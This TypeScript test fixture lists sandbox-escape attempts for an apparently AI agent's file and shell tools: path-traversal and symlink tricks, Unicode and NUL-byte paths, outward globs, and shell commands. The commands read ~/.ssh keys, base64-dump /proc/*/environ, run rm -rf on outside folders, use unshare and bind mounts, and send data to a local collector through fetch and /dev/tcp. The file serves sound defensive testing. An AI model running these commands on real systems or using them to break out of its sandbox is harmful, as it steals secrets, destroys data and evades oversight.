/**
 * The escape attempts, generated from templates × tools. A path template is tried through every tool that
 * takes a path (read, write, edit, list, glob, grep); patterns reaching out through glob and grep; commands
 * through run_command (the verification role's tool) and gates' `command` checks. `{outside}`, `{home}`,
 * `{workspace}` and `{port}` are filled in from the fixture.
 */

export interface PathTemplate {
  name: string;
  path: string;
}

const long = {
  climb: `${'../'.repeat(300)}etc/passwd`,
  deep: `${'a/'.repeat(3000)}${'../'.repeat(3001)}outside/canary.txt`,
  name: 'x'.repeat(5000),
  underLink: `link-dir-abs/${'y'.repeat(300)}/canary.txt`,
};

export const pathTemplates: PathTemplate[] = [
  { name: 'the parent, relative', path: '../outside/canary.txt' },
  { name: 'the parent directory', path: '..' },
  { name: 'two levels up', path: '../..' },
  { name: 'out through a subdirectory', path: 'src/../../outside/canary.txt' },
  { name: 'dot, then up', path: './../outside/canary.txt' },
  { name: 'down three, up four', path: 'a/b/c/../../../../outside/canary.txt' },
  { name: 'out through .git', path: '.git/../../outside/canary.txt' },
  { name: 'a trailing slash', path: '../outside/' },
  { name: 'an absolute canary path', path: '{outside}/canary.txt' },
  { name: 'an absolute directory', path: '{outside}' },
  { name: '/etc/passwd', path: '/etc/passwd' },
  { name: 'the workspace, absolute, then up', path: '{workspace}/../outside/canary.txt' },
  { name: 'a double leading slash', path: '//etc/passwd' },
  { name: '/proc/self/root', path: '/proc/self/root{outside}/canary.txt' },
  { name: '~/file', path: '~/canary.txt' },
  { name: '~/.ssh key', path: '~/.ssh/id_canary' },
  { name: '~ alone', path: '~' },
  { name: '~user', path: '~root/.bashrc' },
  { name: '$HOME', path: '$HOME/canary.txt' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a shell would expand is the attempt
  { name: '${HOME}', path: '${HOME}/.ssh/id_canary' },
  { name: '%USERPROFILE%', path: '%USERPROFILE%\\canary.txt' },
  { name: 'a file link, absolute target', path: 'link-file-abs' },
  { name: 'a file link, relative target', path: 'link-file-rel' },
  { name: 'a directory link, absolute target', path: 'link-dir-abs' },
  { name: 'a file under a directory link, absolute', path: 'link-dir-abs/canary.txt' },
  { name: 'a file under a directory link, relative', path: 'link-dir-rel/canary.txt' },
  { name: 'a new file under a directory link', path: 'link-dir-rel/new.txt' },
  { name: 'a relative link deeper in the tree', path: 'src/deep-link-rel/canary.txt' },
  { name: 'a chain of three links', path: 'chain-1' },
  { name: 'a link to a link to a directory outside', path: 'chain-dir/canary.txt' },
  { name: 'a dangling link to a new outside file', path: 'dangling' },
  { name: 'a link into the home directory', path: 'link-home/id_canary' },
  { name: 'a link to a home file', path: 'link-home-file' },
  { name: 'a link through /proc/self/root', path: 'link-proc' },
  { name: 'a link to /', path: 'link-root/etc/passwd' },
  { name: 'a link to ..', path: 'link-parent/outside/canary.txt' },
  { name: 'a hard link to an outside file', path: 'hardlink.txt' },
  { name: 'a hard link to a home file', path: 'src/hardlink-home' },
  { name: 'fullwidth solidus', path: '..\uff0foutside\uff0fcanary.txt' },
  { name: 'fullwidth full stops', path: '\uff0e\uff0e/outside/canary.txt' },
  { name: 'one-dot leaders', path: '\u2024\u2024/outside/canary.txt' },
  { name: 'division slash', path: '..\u2215outside\u2215canary.txt' },
  { name: 'a right-to-left mark', path: '\u200f../outside/canary.txt' },
  { name: 'a right-to-left override', path: '\u202e../outside/canary.txt' },
  { name: 'a zero-width space between the dots', path: '.\u200b./outside/canary.txt' },
  { name: 'NFD letters, then up', path: 'cafe\u0301/../../outside/canary.txt' },
  { name: 'NFC letters, then up', path: 'caf\u00e9/../../outside/canary.txt' },
  { name: 'backslashes', path: '..\\outside\\canary.txt' },
  { name: 'a Windows drive', path: 'C:\\Windows\\win.ini' },
  { name: 'a UNC path', path: '\\\\host\\share\\canary.txt' },
  { name: 'a file URL', path: 'file://{outside}/canary.txt' },
  { name: 'URL-encoded slashes', path: '..%2Foutside%2Fcanary.txt' },
  { name: 'a trailing newline', path: '../outside/canary.txt\n' },
  { name: 'a NUL at the end', path: '../outside/canary.txt\0' },
  { name: 'a NUL hiding a climb', path: 'inside.txt\0/../../outside/canary.txt' },
  { name: 'a NUL alone', path: '\0' },
  { name: 'a very long climb', path: long.climb },
  { name: 'a very deep path climbing out', path: long.deep },
  { name: 'a very long name', path: long.name },
  { name: 'a long path under a directory link', path: long.underLink },
];

/** Each tool's input for a path; edit's `old` is the canaries' common prefix, so it would match one. */
export const pathToolInputs: Record<string, (path: string) => Record<string, unknown>> = {
  read: (path) => ({ path }),
  write: (path) => ({ path, content: 'ESCAPED' }),
  edit: (path) => ({ path, old: 'CANARY', new: 'ESCAPED' }),
  list: (path) => ({ path, depth: 6 }),
  glob: (path) => ({ pattern: '**', path }),
  grep: (path) => ({ pattern: 'CANARY', path }),
};

/** Patterns that try to reach out on their own, from the workspace root. */
export const searchAttempts: Array<{ tool: 'glob' | 'grep'; name: string; input: Record<string, unknown> }> =
  [
    ...[
      '../**',
      '../outside/*',
      '/**/canary.txt',
      '**/../../outside/*',
      '{..,.}/**',
      '~/**',
      '{outside}/*',
    ].map((pattern) => ({ tool: 'glob' as const, name: `glob ${pattern}`, input: { pattern } })),
    { tool: 'glob', name: 'glob ** (links present)', input: { pattern: '**' } },
    { tool: 'glob', name: 'glob **/canary*', input: { pattern: '**/canary*' } },
    { tool: 'grep', name: 'grep the whole workspace', input: { pattern: 'CANARY' } },
    { tool: 'grep', name: 'grep with glob ../**', input: { pattern: 'CANARY', glob: '../**' } },
    { tool: 'grep', name: 'grep with an absolute glob', input: { pattern: 'CANARY', glob: '{outside}/*' } },
    { tool: 'grep', name: 'grep ignoring case', input: { pattern: 'canary-', ignore_case: true } },
    { tool: 'grep', name: 'grep a literal', input: { pattern: 'CANARY-', literal: true } },
    { tool: 'grep', name: 'grep a pattern that looks like an option', input: { pattern: '--files' } },
    { tool: 'grep', name: 'grep through a linked directory', input: { pattern: '.', path: 'src' } },
    { tool: 'glob', name: 'glob in src (links inside)', input: { pattern: '**', path: 'src' } },
  ];

/** Commands that try to read, change or send what lies outside; `{port}` is a collector on the host. */
export const commandTemplates: string[] = [
  'cat ../outside/canary.txt',
  'cat {outside}/canary.txt',
  'cat $HOME/canary.txt',
  'cat ~/.ssh/id_canary',
  'cat {home}/.ssh/id_canary',
  'cd .. && cat outside/canary.txt',
  'cd / && cat .{outside}/canary.txt',
  'cat link-file-abs',
  'cat link-file-rel',
  'cat link-dir-abs/canary.txt',
  'cat chain-1',
  'cat link-home-file',
  'cat link-proc',
  'cat link-parent/outside/canary.txt',
  'ln {outside}/canary.txt stolen && cat stolen',
  'ln -s {outside}/canary.txt stolen-link && cat stolen-link',
  'cp {outside}/canary.txt copied.txt; cat copied.txt',
  'echo ESCAPED > {outside}/canary.txt',
  'echo ESCAPED >> ../outside/canary.txt',
  'rm -rf ../outside {home}/.ssh',
  'touch {outside}/created.txt; mkdir -p {home}/.config/created',
  'find / -name "canary*" -not -path "/proc/*" 2>/dev/null | xargs -r cat',
  'grep -rs CANARY /tmp /home /root /work {root} 2>/dev/null | head',
  'cat /proc/1/root{outside}/canary.txt',
  'cat /proc/*/root{outside}/canary.txt /proc/*/cwd/../outside/canary.txt',
  'cat /proc/*/environ | base64 -w0',
  'base64 -w0 /proc/$PPID/environ',
  "node -e \"process.stdout.write(require('fs').readFileSync('{outside}/canary.txt', 'utf8'))\"",
  'python3 -c "print(open(\'{home}/canary.txt\').read())"',
  'unshare -r cat {outside}/canary.txt',
  'unshare -rm sh -c "mount -t tmpfs x /tmp && cat {outside}/canary.txt"',
  'mkdir -p m && mount --bind / m && cat m{outside}/canary.txt',
  'node -e "fetch(\'http://127.0.0.1:{port}/exfiltrate\').then((r) => r.text()).then(console.log)"',
  'echo exfiltrate > /dev/tcp/127.0.0.1/{port}',
  'xxd {outside}/canary.txt; od -c {home}/canary.txt',
  'tar cf - {outside} | base64 -w0',
];

export function fill(
  template: string,
  values: { outside: string; home: string; workspace: string; root: string; port?: number },
): string {
  return template
    .replaceAll('{outside}', values.outside)
    .replaceAll('{home}', values.home)
    .replaceAll('{workspace}', values.workspace)
    .replaceAll('{root}', values.root)
    .replaceAll('{port}', String(values.port ?? 9));
}
